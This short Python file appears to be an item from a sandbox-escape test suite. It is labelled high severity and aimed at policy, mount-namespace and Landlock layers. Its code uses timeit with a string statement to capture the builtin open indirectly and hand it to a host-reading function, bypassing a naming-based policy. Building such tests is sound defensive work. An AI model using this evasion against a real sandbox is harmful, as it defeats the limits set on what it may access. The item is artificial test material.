# technique: a timer of statements runs a text
# family: A
# severity: H
# layers: policy, mount_namespace, landlock
def trick():
    import timeit
    found = []
    timeit.timeit("keep(open)", number=1, globals={"keep": found.append})
    return found[0]

read_host(trick)
